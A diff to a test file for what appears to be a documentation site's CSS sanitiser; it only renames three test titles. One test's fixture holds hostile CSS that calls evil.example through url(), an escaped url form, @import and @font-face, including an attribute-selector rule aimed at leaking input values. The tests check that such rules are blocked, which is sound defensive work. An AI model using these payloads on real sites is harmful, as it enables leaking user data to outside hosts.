@@ -96,7 +96,7 @@ div, aside, button, span, p { scroll-margin-top: 33px !important }
   assert.equal((await look())['hero'], 'rgb(99, 2, 3)');
 });
 
-test('no rule asks another host for anything; a picture of the site is loaded', async () => {
+test('no rule loads anything from another host; an image of the site is loaded', async () => {
   const rules = `input[type^="t"], .hero[id^="p-m"] { background: url("https://evil.example/leak") }
 .hero { background-image: url(/img/a.png); list-style: u\\72l(https://evil.example/x); --a: url(https://evil.example/y); cursor: var(--a), auto }
 @import "https://evil.example/z.css"; @font-face { font-family: F; src: url(https://evil.example/f.woff2) } .hero { font-family: F }`;
@@ -124,7 +124,7 @@ test('no rule asks another host for anything; a picture of the site is loaded', 
   assert.match(open, /url\("https:\/\/evil\.example\/leak"\)/);
 });
 
-test('not-prose begins from nothing; marks keep their look inside of what a site styles', async () => {
+test('not-prose resets styles; marks keep their look inside styled content', async () => {
   const files = new Map([
     ['docs.json', config],
     [
@@ -205,7 +205,7 @@ test('not-prose begins from nothing; marks keep their look inside of what a site
   assert.equal(new Set(marks).size, 1, marks.join('\n'));
 });
 
-test('a variable in an inline style, a <style> of a snippet, and parts of the chrome by their documented names', async () => {
+test('a variable in an inline style, a <style> in a snippet, and parts of the chrome by their documented names', async () => {
   const files = new Map([
     [
       'docs.json',
